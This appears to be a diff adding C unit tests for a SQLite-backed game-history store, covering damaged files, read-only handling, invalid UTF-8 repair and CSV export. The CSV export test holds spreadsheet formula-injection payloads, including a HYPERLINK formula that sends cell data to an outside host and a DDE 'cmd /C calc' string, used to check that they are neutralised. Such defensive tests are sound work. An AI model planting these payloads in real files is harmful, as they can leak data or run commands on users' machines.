@@ -257,6 +257,180 @@ test_refuses_damaged (Fixture       *fixture,
   check_refused (fixture->path, TESSERA_STORE_ERROR_NOT_HISTORY, "damaged");
 }
 
+/* Flips the first @n_bytes bytes of page @page (counted from 1) of the file at @path: its
+ * header and the pointers to its cells no longer make sense. */
+static void
+damage_page (const char *path,
+             gint64      page,
+             gsize       n_bytes)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) bytes = read_file (path);
+  gsize length;
+  char *contents = g_bytes_unref_to_data (g_steal_pointer (&bytes), &length);
+  gsize page_size = (gsize) query_int (path, "PRAGMA page_size");
+  gsize start = (gsize) (page - 1) * page_size;
+
+  g_assert_cmpuint (start + n_bytes, <=, length);
+  for (gsize i = 0; i < n_bytes; i++)
+    contents[start + i] ^= 0xff;
+  g_file_set_contents (path, contents, (gssize) length, &error);
+  g_assert_no_error (error);
+  g_free (contents);
+}
+
+/* A history with games enough for every table to take several pages, closed. */
+static void
+make_history_with_games (const char *path,
+                         guint       n_games)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);
+
+  g_assert_no_error (error);
+  for (guint i = 0; i < n_games; i++)
+    {
+      g_autoptr(TesseraRecord) record = tessera_random_game (300 + i, 2 + i % 3);
+      gboolean already;
+
+      g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
+      g_assert_no_error (error);
+    }
+}
+
+static void
+assert_damaged (const GError *error,
+                const char   *path)
+{
+  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_DAMAGED);
+  g_assert_true (g_str_has_prefix (error->message, "the history "));
+  g_assert_nonnull (strstr (error->message, path));
+  g_assert_nonnull (strstr (error->message, " is damaged ("));
+  g_assert_nonnull (strstr (error->message, "keep a copy of the file as it is"));
+}
+
+/* 200 bytes flipped in a page of the scorings, which listing the games does not read: the
+ * history opens and lists its games, but SQLite's check before the first write finds the
+ * damage, and nothing is written into the file then or later, whatever the write: an import
+ * (it used to go in, six of them), a deletion, a game begun. */
+static void
+test_damaged_not_written (Fixture       *fixture,
+                          gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (77, 3);
+  g_autoptr(GPtrArray) games = NULL;
+  g_autoptr(GBytes) before = NULL;
+  g_autoptr(GBytes) after = NULL;
+  g_autofree char *wal = g_strconcat (fixture->path, "-wal", NULL);
+  gboolean already;
+
+  make_history_with_games (fixture->path, 30);
+  damage_page (fixture->path, query_int (fixture->path, "SELECT rootpage FROM sqlite_schema WHERE name = 'score_events'"), 200);
+  before = read_file (fixture->path);
+
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  games = tessera_store_list_games (store, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (games->len, ==, 30);
+
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
+  assert_damaged (error, fixture->path);
+  g_assert_nonnull (strstr (error->message, "SQLite's check found: "));
+  g_clear_error (&error);
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
+  assert_damaged (error, fixture->path);
+  g_clear_error (&error);
+  /* One statement on its own, outside a transaction, is refused too. */
+  g_assert_false (tessera_store_delete_game (store, 1, &error));
+  assert_damaged (error, fixture->path);
+  g_clear_error (&error);
+  g_assert_cmpint (tessera_store_add_game (store, record, &error), ==, 0);
+  assert_damaged (error, fixture->path);
+  g_clear_error (&error);
+  g_clear_object (&store);
+
+  after = read_file (fixture->path);
+  g_assert_true (g_bytes_equal (before, after));
+  /* Nor into its log. */
+  {
+    GStatBuf info;
+
+    g_assert_true (g_stat (wal, &info) != 0 || info.st_size == 0);
+  }
+}
+
+/* Damage a read meets first: SQLite's answer ("database disk image is malformed") is kept, and
+ * every write after it is refused, without a check of its own. */
+static void
+test_damaged_seen_reading (Fixture       *fixture,
+                           gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (78, 2);
+  g_autoptr(GPtrArray) games = NULL;
+  g_autoptr(GBytes) before = NULL;
+  g_autoptr(GBytes) after = NULL;
+  gboolean already;
+
+  make_history_with_games (fixture->path, 30);
+  damage_page (fixture->path, query_int (fixture->path, "SELECT rootpage FROM sqlite_schema WHERE name = 'events'"), 200);
+  before = read_file (fixture->path);
+
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  games = tessera_store_list_games (store, &error);
+  g_assert_null (games);
+  assert_damaged (error, fixture->path);
+  g_assert_nonnull (strstr (error->message, "cannot read the games: database disk image is malformed"));
+  g_clear_error (&error);
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
+  assert_damaged (error, fixture->path);
+  g_assert_nonnull (strstr (error->message, "cannot read the games: database disk image is malformed"));
+  g_clear_error (&error);
+  g_clear_object (&store);
+
+  after = read_file (fixture->path);
+  g_assert_true (g_bytes_equal (before, after));
+}
+
+/* An event that cannot be read back says which game it belongs to, as tessera-cli's history
+ * lists it, and in which file. */
+static void
+test_stored_event_named (Fixture       *fixture,
+                         gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (79, 2);
+  g_autoptr(TesseraRecord) loaded = NULL;
+  g_autofree char *expected = NULL;
+  gint64 game_id;
+  gboolean already;
+
+  record->played = g_new0 (TesseraPlayed, 1);
+  record->played->start = g_strdup ("2026-11-22T14:05:00+01:00");
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  game_id = tessera_store_import_record (store, record, &already, &error);
+  g_assert_no_error (error);
+  g_clear_object (&store);
+  run_sql (fixture->path, "UPDATE events SET event = '{\"type\": \"turn\", ' WHERE sequence = 5");
+
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  loaded = tessera_store_load_record (store, game_id, &error);
+  g_assert_null (loaded);
+  g_assert_nonnull (error);
+  expected = g_strdup_printf ("the history %s, game %" G_GINT64_FORMAT " of 2026-11-22 14:05 (%s, %s): event 5",
+                              fixture->path, game_id, tessera_record_player_name (record, 0),
+                              tessera_record_player_name (record, 1));
+  g_assert_true (g_str_has_prefix (error->message, expected));
+}
+
 /* A history whose stored JSON nests 200,000 levels deep (a hostile or damaged file): the
  * parser would recurse off the stack; the game is refused as damaged, the others still read. */
 static void
@@ -533,6 +707,7 @@ test_players_and_games_managed (Fixture       *fixture,
   g_assert_cmpstr (error->message, ==, "Anna and ANNA are one player already");
   g_clear_error (&error);
   g_assert_false (tessera_store_merge_players (store, "Daan", "Anna", &error));
+  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
   g_assert_cmpstr (error->message, ==, "the history has no player Daan");
   g_clear_error (&error);
 
@@ -589,6 +764,143 @@ test_hostile_names (Fixture       *fixture,
   for (guint i = 0; names[i] != NULL; i++)
     g_assert_cmpstr (tessera_record_player_name (loaded, (int) i), ==, names[i]);
   g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players"), ==, 5);
+}
+
+/* @csv read as RFC 4180 says, as a spreadsheet's import reads it: rows of cells (char *). */
+static GPtrArray *
+parse_csv (const char *csv)
+{
+  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
+  GString *cell = g_string_new (NULL);
+  const char *c = csv;
+
+  while (*c != '\0')
+    {
+      if (*c == '"')
+        {
+          for (c++; *c != '\0' && !(c[0] == '"' && c[1] != '"'); c++)
+            {
+              if (*c == '"')
+                c++;
+              g_string_append_c (cell, *c);
+            }
+          g_assert_cmpint (*c, ==, '"');
+          c++;
+        }
+      else
+        {
+          while (*c != '\0' && *c != ',' && *c != '\r')
+            g_string_append_c (cell, *c++);
+        }
+      g_ptr_array_add (row, g_strdup (cell->str));
+      g_string_truncate (cell, 0);
+      if (*c == ',')
+        c++;
+      else
+        {
+          g_assert_true (c[0] == '\r' && c[1] == '\n');
+          c += 2;
+          g_ptr_array_add (rows, row);
+          row = g_ptr_array_new_with_free_func (g_free);
+        }
+    }
+  g_assert_cmpuint (row->len, ==, 0);
+  g_ptr_array_unref (row);
+  g_string_free (cell, TRUE);
+  return rows;
+}
+
+/* The cell of the row where @name plays ("player" is column 6). */
+static const char *
+csv_cell_of (GPtrArray  *rows,
+             const char *player_cell,
+             guint       column)
+{
+  for (guint r = 1; r < rows->len; r++)
+    {
+      GPtrArray *row = g_ptr_array_index (rows, r);
+
+      g_assert_cmpuint (row->len, ==, 10);
+      if (g_str_equal (g_ptr_array_index (row, 6), player_cell))
+        return g_ptr_array_index (row, column);
+    }
+  g_assert_not_reached ();
+  return NULL;
+}
+
+/* A name a spreadsheet would take for a formula (=, +, -, @, a tab or a carriage return first)
+ * is written as text: quoted, with a ' before it. Other names stay as they are, and numbers stay
+ * numbers: a name that is a number, and a score below zero. */
+static void
+test_export_csv_formulas (Fixture       *fixture,
+                          gconstpointer  data)
+{
+  static const char * const dangerous[] = {
+    "=HYPERLINK(\"http://example.com/?\"&A1,\"Anna\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+    "\tTab", "\rReturn", NULL,
+  };
+  static const char * const first[] = { "=HYPERLINK(\"http://example.com/?\"&A1,\"Anna\")", "+1+cmd|' /C calc'!A0",
+                                        "-2+3", "@SUM(A1:A9)", NULL };
+  static const char * const second[] = { "\tTab", "\rReturn", "Anna", "-3", "Bram, the elder", NULL };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
+  g_autoptr(TesseraRecord) a = record_with_players (first);
+  g_autoptr(TesseraRecord) b = record_with_players (second);
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *csv = NULL;
+  gint64 second_id;
+
+  g_assert_no_error (error);
+  tessera_store_add_game (store, a, &error);
+  g_assert_no_error (error);
+  second_id = tessera_store_add_game (store, b, &error);
+  g_assert_no_error (error);
+  g_clear_object (&store);
+  /* The second game finished, Anna's score below zero (a correction can take her there). */
+  {
+    g_autofree char *sql = g_strdup_printf ("UPDATE games SET state = 'finished' WHERE id = %" G_GINT64_FORMAT ";"
+                                                                                                               "UPDATE game_players SET final_score = 10 - 13 * (seat = 2), "
+                                                                                                               "rank = 1 + (seat = 2) WHERE game = %" G_GINT64_FORMAT,
+                                            second_id, second_id);
+
+    run_sql (fixture->path, sql);
+  }
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  csv = tessera_store_export_csv (store, &error);
+  g_assert_no_error (error);
+  rows = parse_csv (csv);
+  g_assert_cmpuint (rows->len, ==, 1 + 4 + 5);
+
+  for (guint i = 0; dangerous[i] != NULL; i++)
+    {
+      g_autofree char *guarded = g_strconcat ("'", dangerous[i], NULL);
+      g_autofree char *quoted = g_strdup_printf (",\"'%c", dangerous[i][0]);
+
+      /* Every dangerous first character is behind the ', inside quotes. */
+      g_assert_nonnull (strstr (csv, quoted));
+      csv_cell_of (rows, guarded, 6);
+    }
+  /* No cell of the file starts a formula; the rest is as it was. */
+  for (guint r = 0; r < rows->len; r++)
+    {
+      GPtrArray *row = g_ptr_array_index (rows, r);
+
+      for (guint k = 0; k < row->len; k++)
+        {
+          const char *cell = g_ptr_array_index (row, k);
+
+          g_assert_true (cell[0] == '\0' || strchr ("=+@\t\r", cell[0]) == NULL);
+          g_assert_true (cell[0] != '-' || g_str_equal (cell, "-3"));
+        }
+    }
+  g_assert_cmpstr (csv_cell_of (rows, "Anna", 8), ==, "-3");
+  g_assert_cmpstr (csv_cell_of (rows, "Anna", 9), ==, "2");
+  g_assert_cmpstr (csv_cell_of (rows, "-3", 8), ==, "10");
+  g_assert_cmpstr (csv_cell_of (rows, "Bram, the elder", 7), ==, "black");
+  g_assert_nonnull (strstr (csv, ",2,Anna,green,-3,2\r\n"));
+  g_assert_nonnull (strstr (csv, ",3,-3,yellow,10,1\r\n"));
 }
 
 /* An event is stored once, as the next of its game: the same state saved twice, or a game
@@ -1842,7 +2154,7 @@ test_statistics (Fixture       *fixture,
   g_assert_cmpuint (found_h2h.n_second_ahead, ==, anna_bram.n_second_ahead);
   g_assert_cmpuint (found_h2h.n_level, ==, anna_bram.n_level);
   g_assert_false (tessera_store_get_head_to_head (store, "Anna", "Zoe", &found_h2h, &error));
-  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
+  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
   g_assert_nonnull (strstr (error->message, "no player Zoe"));
   g_clear_error (&error);
 
@@ -2055,6 +2367,237 @@ test_read_only (Fixture       *fixture,
 
   after = read_file (fixture->path);
   g_assert_true (g_bytes_equal (before, after));
+  g_chmod (fixture->path, 0644);
+}
+
+/* Whether @path-@suffix is there. */
+static gboolean
+has_leftover (const char *path,
+              const char *suffix)
+{
+  g_autofree char *leftover = g_strconcat (path, suffix, NULL);
+
+  return g_file_test (leftover, G_FILE_TEST_EXISTS);
+}
+
+/* A history read while it was marked read-only leaves nothing beside it (a 444 -shm used to
+ * stay, and once the file was writable again every write failed on it), and it is written
+ * again as soon as it is made writable, as the message says. */
+static void
+test_read_only_leaves_nothing (Fixture       *fixture,
+                               gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (91, 2);
+  g_autoptr(GPtrArray) games = NULL;
+  gboolean already;
+
+  make_history_with_games (fixture->path, 2);
+  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));
+  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  g_assert_true (tessera_store_is_read_only (store));
+  games = tessera_store_list_games (store, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (games->len, ==, 2);
+  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));
+  g_clear_object (&store);
+  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));
+
+  g_assert_cmpint (g_chmod (fixture->path, 0666), ==, 0);
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  g_assert_false (tessera_store_is_read_only (store));
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
+  g_assert_no_error (error);
+}
+
+/* The log and index a read-only reader left behind with the file's 444 (an earlier Tessera, or
+ * SQLite's own shell) are given the file's permission again when it is opened writable: as an
+ * ordinary user every write failed on them ("attempt to write a readonly database"). */
+static void
+test_read_only_leftovers_mended (Fixture       *fixture,
+                                 gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (92, 2);
+  g_autofree char *shm = g_strconcat (fixture->path, "-shm", NULL);
+  gboolean already;
+  GStatBuf info;
+
+  make_history_with_games (fixture->path, 1);
+  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
+  /* What the read-only open of before did, and leaves. */
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 1);
+  g_assert_cmpint (g_stat (shm, &info), ==, 0);
+  g_assert_cmpint (info.st_mode & 0777, ==, 0444);
+
+  g_assert_cmpint (g_chmod (fixture->path, 0644), ==, 0);
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  g_assert_false (tessera_store_is_read_only (store));
+  g_assert_cmpint (g_stat (shm, &info), ==, 0);
+  g_assert_cmpint (info.st_mode & 0777, ==, 0644);
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
+  g_assert_no_error (error);
+}
+
+/* A history in a folder marked read-only (a shared folder, a write-protected stick) is read,
+ * without anything made beside it, and writes are refused saying why. The folder's own mode
+ * decides, as the file's does, so root, who could write there, reads it so too. */
+static void
+test_read_only_folder (Fixture       *fixture,
+                       gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *folder = g_build_filename (fixture->folder, "shared", NULL);
+  g_autofree char *path = g_build_filename (folder, "history.db", NULL);
+  g_autofree char *expected = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(TesseraRecord) record = tessera_random_game (93, 2);
+  g_autoptr(TesseraRecord) loaded = NULL;
+  g_autoptr(GPtrArray) games = NULL;
+  g_autoptr(GDir) dir = NULL;
+  gboolean already;
+
+  make_history_with_games (path, 2);
+  g_assert_cmpint (g_chmod (folder, 0555), ==, 0);
+  store = tessera_store_open (path, &error);
+  g_assert_no_error (error);
+  g_assert_true (tessera_store_is_read_only (store));
+  games = tessera_store_list_games (store, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (games->len, ==, 2);
+  loaded = tessera_store_load_record (store, ((TesseraGameSummary *) g_ptr_array_index (games, 0))->id, &error);
+  g_assert_no_error (error);
+  expected = g_strdup_printf ("the history %s is in a read-only folder: nothing can be saved in it. Make the folder "
+                              "writable to add or change games; it can still be looked through and exported.", path);
+  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
+  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_READ_ONLY);
+  g_assert_cmpstr (error->message, ==, expected);
+  g_clear_error (&error);
+  g_clear_object (&store);
+  /* Nothing but the history in the folder. */
+  dir = g_dir_open (folder, 0, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (g_dir_read_name (dir), ==, "history.db");
+  g_assert_null (g_dir_read_name (dir));
+  g_assert_cmpint (g_chmod (folder, 0755), ==, 0);
+}
+
+/* A history of two games where the first player's name, in the players and in the seats, and
+ * the first game's place are stored as an earlier reader stored "\ud800Anna": ED A0 80 "nna". */
+static void
+make_history_with_invalid_name (const char *path)
+{
+  make_history_with_games (path, 2);
+  run_sql (path,
+           "UPDATE players SET name = CAST (X'EDA0806E6E61' AS TEXT), name_key = CAST (X'EDA0806E6E61' AS TEXT) WHERE id = 1;"
+           "UPDATE game_players SET name = CAST (X'EDA0806E6E61' AS TEXT) WHERE player = 1;"
+           "UPDATE games SET played = CAST (X'7B22706C616365223A2022EDA0804B6C7562227D' AS TEXT) WHERE id = 1;");
+  g_assert_cmpint (query_int (path, "SELECT count(*) FROM players WHERE hex (name) = 'EDA0806E6E61'"), ==, 1);
+}
+
+/* A name an earlier reader let in as bytes that are not UTF-8 ("\ud800Anna" became ED A0 80
+ * "nna") is mended when the history is opened writable: one U+FFFD for the bad bytes, in the
+ * players, the game's seats and its place, with the player's key; every list and record is
+ * valid text again, and the player is found by the mended name. */
+static void
+test_invalid_utf8_mended (Fixture       *fixture,
+                          gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(GPtrArray) games = NULL;
+  g_autoptr(GPtrArray) players = NULL;
+  g_autoptr(TesseraRecord) loaded = NULL;
+  g_autoptr(TesseraPlayerStats) stats = NULL;
+  g_autofree char *data_text = NULL;
+  const char *mended = "\xef\xbf\xbdnna";
+
+  make_history_with_invalid_name (fixture->path);
+
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE hex (name) = 'EFBFBD6E6E61'"), ==, 1);
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE hex (name) LIKE '%EDA080%'"), ==, 0);
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE hex (name) = 'EFBFBD6E6E61'"), >, 0);
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE hex (played) LIKE '%EDA080%'"), ==, 0);
+  players = tessera_store_list_player_stats (store, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < players->len; i++)
+    g_assert_true (g_utf8_validate (((TesseraPlayerStats *) g_ptr_array_index (players, i))->name, -1, NULL));
+  stats = tessera_store_get_player_stats (store, mended, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (stats->name, ==, mended);
+  games = tessera_store_list_games (store, &error);
+  g_assert_no_error (error);
+  loaded = tessera_store_load_record (store, 1, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (loaded->played->place, ==, "\xef\xbf\xbdKlub");
+  data_text = tessera_record_to_data (loaded);
+  g_assert_true (g_utf8_validate (data_text, -1, NULL));
+  g_clear_object (&store);
+  /* Mended once: opened again, nothing is left to mend. */
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+}
+
+/* Read-only, the same names are shown mended, and the file is left as it is. */
+static void
+test_invalid_utf8_shown_read_only (Fixture       *fixture,
+                                   gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TesseraStore) store = NULL;
+  g_autoptr(GPtrArray) games = NULL;
+  g_autoptr(GPtrArray) players = NULL;
+  g_autoptr(TesseraRecord) loaded = NULL;
+  g_autoptr(GBytes) before = NULL;
+  g_autoptr(GBytes) after = NULL;
+  g_autofree char *csv = NULL;
+  gboolean found = FALSE;
+
+  make_history_with_invalid_name (fixture->path);
+  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
+  before = read_file (fixture->path);
+
+  store = tessera_store_open (fixture->path, &error);
+  g_assert_no_error (error);
+  g_assert_true (tessera_store_is_read_only (store));
+  players = tessera_store_list_player_stats (store, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < players->len; i++)
+    {
+      const char *name = ((TesseraPlayerStats *) g_ptr_array_index (players, i))->name;
+
+      g_assert_true (g_utf8_validate (name, -1, NULL));
+      found |= g_str_equal (name, "\xef\xbf\xbdnna");
+    }
+  g_assert_true (found);
+  games = tessera_store_list_games (store, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < games->len; i++)
+    {
+      const TesseraGameSummary *game = g_ptr_array_index (games, i);
+
+      for (guint k = 0; k < game->seats->len; k++)
+        g_assert_true (g_utf8_validate (g_array_index (game->seats, TesseraGameSeat, k).name, -1, NULL));
+    }
+  loaded = tessera_store_load_record (store, 1, &error);
+  g_assert_no_error (error);
+  csv = tessera_store_export_csv (store, &error);
+  g_assert_no_error (error);
+  g_assert_true (g_utf8_validate (csv, -1, NULL));
+  g_assert_nonnull (strstr (csv, ",\xef\xbf\xbdnna,"));
+  g_clear_object (&store);
+
+  after = read_file (fixture->path);
+  g_assert_true (g_bytes_equal (before, after));
+  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE hex (name) = 'EDA0806E6E61'"), ==, 1);
   g_chmod (fixture->path, 0644);
 }
 
@@ -2703,12 +3246,16 @@ main (int   argc,
     { "/store/refuses-text", test_refuses_text },
     { "/store/refuses-foreign-database", test_refuses_foreign_database },
     { "/store/refuses-damaged", test_refuses_damaged },
+    { "/store/damaged-not-written", test_damaged_not_written },
+    { "/store/damaged-seen-reading", test_damaged_seen_reading },
+    { "/store/stored-event-named", test_stored_event_named },
     { "/store/refuses-deep-json", test_refuses_deep_json },
     { "/store/refuses-newer", test_refuses_newer },
     { "/store/refuses-folder", test_refuses_folder },
     { "/store/game-round-trip", test_game_round_trip },
     { "/store/same-player-any-case", test_same_player_any_case },
     { "/store/hostile-names", test_hostile_names },
+    { "/store/export-csv-formulas", test_export_csv_formulas },
     { "/store/event-order", test_event_order },
     { "/store/import-once", test_import_once },
     { "/store/played-game-recognised", test_played_game_recognised },
@@ -2732,6 +3279,11 @@ main (int   argc,
     { "/store/busy", test_busy },
     { "/store/first-open-at-once", test_first_open_at_once },
     { "/store/read-only", test_read_only },
+    { "/store/read-only-leaves-nothing", test_read_only_leaves_nothing },
+    { "/store/read-only-leftovers-mended", test_read_only_leftovers_mended },
+    { "/store/read-only-folder", test_read_only_folder },
+    { "/store/invalid-utf8-mended", test_invalid_utf8_mended },
+    { "/store/invalid-utf8-shown-read-only", test_invalid_utf8_shown_read_only },
     { "/store/folder-gone", test_folder_gone },
     { "/store/disk-full", test_disk_full },
     { "/store/import-batch-interrupted", test_import_batch_interrupted },
